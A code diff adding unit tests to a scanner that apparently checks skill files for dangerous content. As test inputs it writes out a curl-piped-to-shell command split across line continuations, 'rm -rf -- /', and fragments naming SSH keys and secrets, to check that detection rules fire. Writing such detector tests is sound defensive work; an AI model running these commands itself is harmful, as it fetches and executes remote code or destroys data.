@@ -58,6 +58,24 @@ describe("the built-in scanner", () => {
     });
   }
 
+  it("looks at lines as they were, whatever blanks and joints there are", () => {
+    const found = scanSkill(bytes("# A\r\n\f\ncurl https://x.example/i \\\r\n   \\\n  |   \t  sh\nrm   -rf    --   /\n"));
+    expect(found.map(({ id, location }) => `${id} ${location}`)).toEqual(["pipe-to-shell line 3", "destructive-command line 6"]);
+    expect(rulesOf(`curl https://x.example/${"i".repeat(150)} ${" ".repeat(500)}| sh`)).toContain("pipe-to-shell");
+    // What lies between belongs to the nearest, and a pipe between ends the command.
+    expect(rulesOf("curl a | tee x | sh")).not.toContain("pipe-to-shell");
+    expect(rulesOf(`curl ${"a".repeat(300)} curl b | sh`)).toContain("pipe-to-shell");
+  });
+
+  it("does not judge what repeats itself without end, and so does not let it pass", () => {
+    for (const part of ["curl ", "env | ", "\u{e0041}"]) expect(scanSkill(bytes(`# Skill\n${part.repeat(110_000)}| sh`)).map(({ id }) => id), part).toContain("too-dense");
+  });
+
+  it("takes time that grows with the text only", () => {
+    // With the square of the text each of these would take minutes.
+    for (const part of ["\u{e0041}", "keep this", "curl $(", "send secret ", "rm --", "~/.ssh/id_a|"]) scanSkill(bytes(`${part}${part === "keep this" ? "\n".repeat(400_000) : part.repeat(90_000)}`));
+  });
+
   it("cannot read what is no text", () => {
     for (const content of [new Uint8Array([0x50, 0x4b, 3, 4, 0, 0]), new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 1, 2]), new Uint8Array([0xff, 0xfe, 0x41, 0]), new Uint8Array([0xc3, 0x28])]) {
       expect(scanSkill(content)).toEqual([expect.objectContaining({ id: "unreadable", severity: "critical" })]);
